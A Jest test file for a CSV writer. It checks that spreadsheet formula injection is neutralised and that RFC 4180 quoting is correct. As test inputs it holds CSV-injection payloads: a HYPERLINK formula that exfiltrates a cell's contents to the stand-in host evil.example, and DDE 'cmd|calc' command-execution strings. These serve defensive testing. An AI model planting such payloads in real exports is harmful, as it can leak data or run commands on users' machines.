import { csvCell, csvLine, toCsv } from './csv-writer';

describe('csv-writer', () => {
  describe(csvCell.name, () => {
    it.each([
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
      ['=1+2', "'=1+2"],
      ['+cmd|calc', "'+cmd|calc"],
      ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
      ['@SUM(1+1)*cmd|calc', "'@SUM(1+1)*cmd|calc"],
      ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
      ['\t=1+2', "'\t=1+2"],
      ['\r=1+2', `"'\r=1+2"`],
      ['\n=1+2', `"'\n=1+2"`],
      ['\uFF1D1+2', "'\uFF1D1+2"],
    ])('should neutralise the formula %j so a spreadsheet shows it as text', (payload, cell) => {
      expect(csvCell(payload)).toBe(cell);
    });

    it.each([
      ['plain', 'plain'],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['a;=1+2', '"a;=1+2"'],
      ['two\r\nlines', '"two\r\nlines"'],
      ['lsa@trust.nhs.uk', 'lsa@trust.nhs.uk'],
      ['', ''],
    ])('should quote %j only as RFC 4180 (and the ; separator) need', (value, cell) => {
      expect(csvCell(value)).toBe(cell);
    });

    it('should write null and undefined as empty, numbers and booleans as text', () => {
      expect([null, undefined, 7, -1, true].map(csvCell)).toEqual(['', '', '7', "'-1", 'true']);
    });
  });

  it('should end each line with CRLF', () => {
    expect(csvLine(['a', '=1+2', null])).toBe("a,'=1+2,\r\n");
  });

  it('should write a header line, then the columns of each row in order', () => {
    const rows = [{ name: '@SUM(A1)', n: 2, extra: 'x' }];
    expect(toCsv(['n', 'name'], rows)).toBe("n,name\r\n2,'@SUM(A1)\r\n");
  });
});
